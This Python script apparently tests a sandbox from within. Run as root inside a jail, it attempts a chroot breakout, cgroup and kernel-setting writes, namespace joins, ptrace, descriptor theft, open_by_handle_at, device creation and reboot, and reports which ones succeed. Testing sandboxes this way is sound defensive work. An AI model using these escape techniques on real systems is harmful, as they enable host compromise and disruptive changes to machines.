"""Attempts of a program that is root in a jail to reach the host: `python jail_attacks.py PATH ABSTRACT_NAME`.

PATH is a file of the host that no jail shows. Prints a line `NAME: how` for each attempt that succeeded, and the
number of attempts at the end. Standard library only: it runs in the jail.
"""

from __future__ import annotations

import ctypes
import fcntl
import os
import platform
import socket
import stat
import struct
import sys
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
SECRET, ABSTRACT = sys.argv[1], sys.argv[2]
KEYCTL = {"x86_64": 250, "aarch64": 219}[platform.machine()]
OPEN_BY_HANDLE_AT = {"x86_64": 304, "aarch64": 265}[platform.machine()]
PIDFD_OPEN, PIDFD_GETFD = 434, 438
NS_GET_USERNS, NS_GET_PARENT = 0xB701, 0xB702
CLONE_NEWUSER = 0x1000_0000
NAMESPACES = {
    "mnt": 0x0002_0000,
    "cgroup": 0x0200_0000,
    "uts": 0x0400_0000,
    "ipc": 0x0800_0000,
    "user": CLONE_NEWUSER,
    "pid": 0x2000_0000,
    "net": 0x4000_0000,
}


def call(name: str, *arguments: Any) -> str:
    if getattr(libc, name)(*arguments) == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return "no error"


def syscall(number: int, *arguments: Any) -> int:
    result: int = libc.syscall(ctypes.c_long(number), *arguments)
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def others() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]


def read_secret(path: str) -> str:
    with open(path) as file:
        return file.read()


def mount_anything() -> str:
    kinds = (b"tmpfs", b"proc", b"sysfs", b"cgroup", b"cgroup2", b"overlay")
    return b", ".join(kind for kind in kinds if libc.mount(b"none", b"/mnt", kind, 0, None) == 0).decode()


def remount_system() -> str:
    return call("mount", b"none", b"/usr", None, ctypes.c_ulong(32 | 4096), None)


def unmount_system() -> str:
    return call("umount2", b"/usr", 2)


def make_namespaces() -> str:
    return ", ".join(name for name, flag in NAMESPACES.items() if libc.unshare(flag) == 0)


def join_namespaces() -> str:
    joined = []
    for pid in [1, *others()]:
        for name in NAMESPACES:
            try:
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError:
                continue
            if (
                os.readlink(f"/proc/{pid}/ns/{name}") != os.readlink(f"/proc/self/ns/{name}")
                and libc.setns(fd, 0) == 0
            ):
                joined.append(f"{name} of {pid}")
            os.close(fd)
    return ", ".join(joined)


def parent_namespaces() -> str:
    found = []
    for name in ("user", "pid"):
        fd = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
        try:
            found.append(f"{name} {fcntl.ioctl(fd, NS_GET_PARENT)}")
        except OSError:
            continue
    return ", ".join(found)


def make_device() -> str:
    os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    return "a block device"


def open_devices() -> str:
    found = [
        name
        for name in ("mem", "kmem", "port", "kmsg", "sda", "vda", "fuse", "kvm")
        if os.path.exists(f"/dev/{name}")
    ]
    return ", ".join(found)


def write_kernel_settings() -> str:
    written = []
    for path in (
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/overcommit_memory",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sysrq-trigger",
        "/proc/sys/user/max_user_namespaces",
        "/sys/kernel/uevent_helper",
        "/proc/1/oom_score_adj",
    ):
        try:
            with open(path, "r+") as file:
                text = file.read() if "trigger" not in path else ""
                file.seek(0)
                file.write("9" if path.endswith("namespaces") else text)
        except OSError:
            continue
        if "oom" not in path:
            written.append(path)
    return ", ".join(written)


def escape_cgroup() -> str:
    found = []
    for base, _, files in os.walk("/sys/fs/cgroup"):
        for name in ("release_agent", "cgroup.procs", "memory.max", "memory.limit_in_bytes"):
            if name in files and os.access(f"{base}/{name}", os.W_OK):
                found.append(f"{base}/{name}")
    return ", ".join(found)


def keys_of_the_maker() -> str:
    serial = syscall(KEYCTL, 10, -3, b"user", b"hf-secret", 0)  # KEYCTL_SEARCH in the session keyring
    return f"key {serial}"


def trace_the_server() -> str:
    traced = []
    for pid in others():
        if pid in (1, 2):  # bubblewrap and `cat`: in the same namespaces, with fewer capabilities
            continue
        if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
            traced.append(str(pid))
    return ", ".join(traced)


def steal_descriptors() -> str:
    stolen = []
    for pid in others():
        try:
            pidfd = syscall(PIDFD_OPEN, pid, 0)
        except OSError:
            continue
        for number in range(64):
            try:
                fd = syscall(PIDFD_GETFD, pidfd, number, 0)
            except OSError:
                continue
            if stat.S_ISDIR(os.fstat(fd).st_mode):
                stolen.append(f"directory {number} of {pid}")
            elif stat.S_ISSOCK(os.fstat(fd).st_mode):
                stolen.append(f"socket {number} of {pid}")
    return ", ".join(stolen)


def through_proc() -> str:
    for pid in [1, *others()]:
        for link in ("root", "cwd"):
            try:
                return read_secret(f"/proc/{pid}/{link}{SECRET}")
            except OSError:
                continue
    return ""


def break_out_of_chroot() -> str:
    os.makedirs("/tmp/c", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/c")
    os.fchdir(outside)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    return read_secret(SECRET)


def open_by_handle() -> str:
    # The root of a file system by its inode, as CAP_DAC_READ_SEARCH allows.
    handle = struct.pack("Ii8s", 8, 1, struct.pack("II", 2, 0))
    fd = os.open("/etc", os.O_RDONLY)
    return f"descriptor {syscall(OPEN_BY_HANDLE_AT, fd, handle, os.O_RDONLY)}"


def abstract_socket() -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0{ABSTRACT}")
    return "connected"


def see_the_host() -> str:
    names = []
    for pid in others():
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            names.append(file.read().replace(b"\0", b" ").decode(errors="replace"))
    return ", ".join(name for name in names if "pytest" in name or "dockerd" in name)


def change_the_machine() -> str:
    done = []
    for name, arguments in (
        ("reboot", (0x0123_4567,)),
        ("sethostname", (b"owned", 5)),
        ("swapoff", (b"/dev/sda",)),
        ("acct", (b"/tmp/acct",)),
        ("settimeofday", (ctypes.create_string_buffer(16), None)),
    ):
        if getattr(libc, name)(*arguments) == 0:
            done.append(name)
    return ", ".join(done)


def raw_packets() -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).close()
    return "a packet socket"


def replace_the_server() -> str:
    os.rename("/run/holdfast/server/bin", "/run/holdfast/server/b")
    return "renamed"


def gain_privileges() -> str:
    with open("/proc/self/status") as file:
        fields = dict(line.split(":\t", 1) for line in file.read().splitlines())
    missing = [] if fields["NoNewPrivs"].strip() == "1" else ["no_new_privs is off"]
    # SYS_MODULE, SYS_RAWIO, SYS_PTRACE, SYS_ADMIN, SYS_BOOT, NET_ADMIN, DAC_READ_SEARCH, MKNOD
    mask = sum(1 << number for number in (16, 17, 19, 21, 22, 12, 2, 27))
    held = int(fields["CapBnd"], 16) | int(fields["CapEff"], 16)
    return ", ".join([*missing, *([f"capabilities {held & mask:x}"] if held & mask else [])])


ATTEMPTS = (
    mount_anything,
    remount_system,
    unmount_system,
    make_namespaces,
    join_namespaces,
    parent_namespaces,
    make_device,
    open_devices,
    write_kernel_settings,
    escape_cgroup,
    keys_of_the_maker,
    trace_the_server,
    steal_descriptors,
    through_proc,
    open_by_handle,
    abstract_socket,
    see_the_host,
    change_the_machine,
    raw_packets,
    replace_the_server,
    gain_privileges,
    break_out_of_chroot,
)

if __name__ == "__main__":
    for attempt in ATTEMPTS:
        try:
            how = attempt()
        except OSError:
            how = ""
        if how:
            print(f"{attempt.__name__}: {how}", flush=True)
    print(len(ATTEMPTS))
